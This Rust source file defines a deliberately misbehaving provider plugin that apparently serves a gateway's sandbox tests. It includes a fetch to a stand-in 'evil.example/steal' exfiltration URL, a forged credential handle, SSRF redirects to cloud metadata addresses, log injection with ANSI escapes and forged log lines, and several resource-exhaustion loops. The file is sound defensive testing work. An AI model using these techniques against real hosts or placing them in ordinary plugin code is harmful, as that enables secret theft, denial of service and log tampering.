//! A provider component that misbehaves when the requested model says so, and otherwise acts
//! like `openai-compat`. Freeway's sandbox tests use it:
//!
//! - `loop`: spins forever in `chat`
//! - `alloc`: allocates without bound
//! - `panic`: panics
//! - `evil-host`: asks the host to fetch a URL outside its manifest's allowed hosts
//! - `forged-credential`: names a credential handle it was not given
//! - `stack`: recurses without bound
//! - `observe`: reports everything it can see of its account (label, settings, what the
//!   simulator's request log looks like through the host) in an error message
//! - `sleep`: sleeps for 10 minutes (a WASI poll: no CPU burnt, so only a wall-clock deadline
//!   stops it)
//! - `http-loop`: `http.send`s `GET {base_url}/models` until the host refuses one, then reports
//!   how many went through and why it stopped
//! - `http-loop-ignoring-errors`: the same, but never stops (refusals are ignored)
//! - `stdout-flood`: writes 1 GiB to stdout in 64 KiB writes, then answers normally
//! - `log-control`: logs lines full of control characters (ANSI escapes, CR, LF with a forged
//!   log line after it, NUL) and then 10,000 lines, then answers normally
//! - `redirect`: fetches `{base_url}/hostile/redirect` (scripted by the test to answer a 302 to
//!   the cloud metadata address), follows a 3xx itself, and reports what happened
//! - `probe`: fetches `{base_url}/` once and reports what happened (for base URLs the host must
//!   refuse, such as link-local and cloud metadata addresses)
//! - anything else: a normal OpenAI-compatible passthrough

use std::hint::black_box;
use std::io::Write;
use std::time::Duration;

use freeway_sdk::provider::{join_url, log, openai_passthrough};
use freeway_sdk::types::*;
use freeway_sdk::{Provider, export_provider};

struct Misbehave;

fn recurse(n: u64) -> u64 {
    let buf = black_box([n; 64]);
    if buf[0] == u64::MAX { 0 } else { recurse(n + 1) + buf[3] }
}

impl Provider for Misbehave {
    fn manifest() -> ProviderManifest {
        ProviderManifest {
            id: "misbehave".to_owned(),
            name: "Misbehaving test provider".to_owned(),
            version: "0.0.1".to_owned(),
            allowed_hosts: vec!["$base_url".to_owned()],
            auth: AuthStyle::Bearer,
            default_base_url: None,
            needs_body: false,
            limit_headers: Vec::new(),
            models: Vec::new(),
        }
    }

    fn chat(req: ChatRequest) -> Result<UpstreamCall, ProviderError> {
        match req.model.as_str() {
            "loop" => {
                let mut x: u64 = 0;
                loop {
                    x = black_box(x.wrapping_add(1));
                }
            }
            "alloc" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    black_box(&hoard);
                }
            }
            "panic" => panic!("misbehave was asked to panic"),
            "stack" => {
                let n = recurse(black_box(0));
                Err(freeway_sdk::errors::bad_request(&format!("unreachable {n}")))
            }
            "evil-host" => {
                let r = freeway_sdk::http::send(
                    &HttpRequest {
                        method: "GET".into(),
                        url: "http://evil.example/steal".into(),
                        headers: Vec::new(),
                        body: Vec::new(),
                        timeout_ms: Some(1000),
                    },
                    Some(req.account),
                );
                Err(match r {
                    Ok(_) => freeway_sdk::errors::bad_request("the host let me out"),
                    Err(e) => freeway_sdk::http::http_error(&e),
                })
            }
            "forged-credential" => {
                let url = format!("{}/models", req.config.base_url);
                let r = freeway_sdk::http::send(
                    &HttpRequest {
                        method: "GET".into(),
                        url,
                        headers: Vec::new(),
                        body: Vec::new(),
                        timeout_ms: Some(1000),
                    },
                    Some(req.account + 7),
                );
                Err(match r {
                    Ok(_) => freeway_sdk::errors::bad_request("the host accepted a forged handle"),
                    Err(e) => freeway_sdk::http::http_error(&e),
                })
            }
            "observe" => {
                use freeway_sdk::provider::bindings::freeway::gateway::credentials;
                let origin = req.config.base_url.split('/').take(3).collect::<Vec<_>>().join("/");
                let seen = freeway_sdk::http::send(
                    &HttpRequest {
                        method: "GET".into(),
                        url: format!("{origin}/_sim/requests"),
                        headers: Vec::new(),
                        body: Vec::new(),
                        timeout_ms: Some(2000),
                    },
                    Some(req.account),
                );
                let body = match seen {
                    Ok(r) => String::from_utf8_lossy(&r.body).into_owned(),
                    Err(e) => format!("{e:?}"),
                };
                let report = format!(
                    "observed label={} account_id={:?} params={:?} log={body}",
                    credentials::label(req.account),
                    credentials::setting(req.account, "account_id"),
                    req.params
                );
                Err(freeway_sdk::errors::bad_request(&report))
            }
            "sleep" => {
                std::thread::sleep(Duration::from_secs(600));
                Err(freeway_sdk::errors::bad_request("slept for 10 minutes and nobody stopped me"))
            }
            "http-loop" => {
                let url = join_url(&req.config.base_url, "models");
                let mut sent: u64 = 0;
                loop {
                    match freeway_sdk::http::send(&get(&url, 2000), Some(req.account)) {
                        Ok(_) => sent += 1,
                        Err(e) => {
                            return Err(freeway_sdk::errors::bad_request(&format!(
                                "http-loop: {sent} calls went through, then: {e:?}"
                            )));
                        }
                    }
                }
            }
            "http-loop-ignoring-errors" => {
                let url = join_url(&req.config.base_url, "models");
                loop {
                    let _ = black_box(freeway_sdk::http::send(&get(&url, 2000), Some(req.account)));
                }
            }
            "stdout-flood" => {
                let chunk = vec![b'x'; 64 * 1024];
                let mut out = std::io::stdout().lock();
                for _ in 0..(1024 * 1024 * 1024 / chunk.len()) {
                    // a chatty guest does not care whether anyone listens
                    let _ = out.write_all(black_box(&chunk));
                }
                let _ = out.flush();
                Ok(openai_passthrough(&req, "chat/completions", Vec::new()))
            }
            "log-control" => {
                let forged = [
                    "\x1b[2J\x1b[31mred alert: screen cleared\x1b[0m",
                    "carriage\rOVERWRITTEN",
                    "innocent\n2026-01-01T00:00:00Z ERROR freeway: forged line injected by a guest",
                    "nul\0byte\0\0here",
                    "\x1b]0;window title\x07bell and osc",
                ];
                for line in forged {
                    log(LogLevel::Error, line);
                }
                for i in 0..10_000 {
                    log(LogLevel::Warn, &format!("misbehave log flood line {i}"));
                }
                Ok(openai_passthrough(&req, "chat/completions", Vec::new()))
            }
            "redirect" => Err(freeway_sdk::errors::bad_request(&follow_redirect(&req))),
            "probe" => {
                let url = join_url(&req.config.base_url, "");
                let report = match freeway_sdk::http::send(&get(&url, 500), Some(req.account)) {
                    Ok(r) => format!("probe: {url} answered {} with {} bytes", r.status, r.body.len()),
                    Err(e) => format!("probe: {url} refused: {e:?}"),
                };
                Err(freeway_sdk::errors::bad_request(&report))
            }
            _ => Ok(openai_passthrough(&req, "chat/completions", Vec::new())),
        }
    }
}

fn get(url: &str, timeout_ms: u32) -> HttpRequest {
    HttpRequest {
        method: "GET".into(),
        url: url.to_owned(),
        headers: Vec::new(),
        body: Vec::new(),
        timeout_ms: Some(timeout_ms),
    }
}

/// Fetch the scripted redirect and, when it is a 3xx, follow it by hand: what a guest would do
/// to reach an address the host itself would not redirect to. The report says each step.
fn follow_redirect(req: &ChatRequest) -> String {
    let first = join_url(&req.config.base_url, "hostile/redirect");
    let resp = match freeway_sdk::http::send(&get(&first, 1000), Some(req.account)) {
        Ok(r) => r,
        Err(e) => return format!("redirect: {first} failed: {e:?}"),
    };
    let location = resp.headers.iter().find(|(k, _)| k.eq_ignore_ascii_case("location")).map(|(_, v)| v.clone());
    let Some(location) = location.filter(|_| (300..400).contains(&resp.status)) else {
        return format!("redirect: {first} answered {} without a redirect (the host followed it?)", resp.status);
    };
    let step = format!("redirect: {first} answered {} to {location}", resp.status);
    match freeway_sdk::http::send(&get(&location, 500), Some(req.account)) {
        Ok(r) => format!("{step}; following it myself answered {} with {} bytes", r.status, r.body.len()),
        Err(e) => format!("{step}; following it myself was refused: {e:?}"),
    }
}

export_provider!(Misbehave);
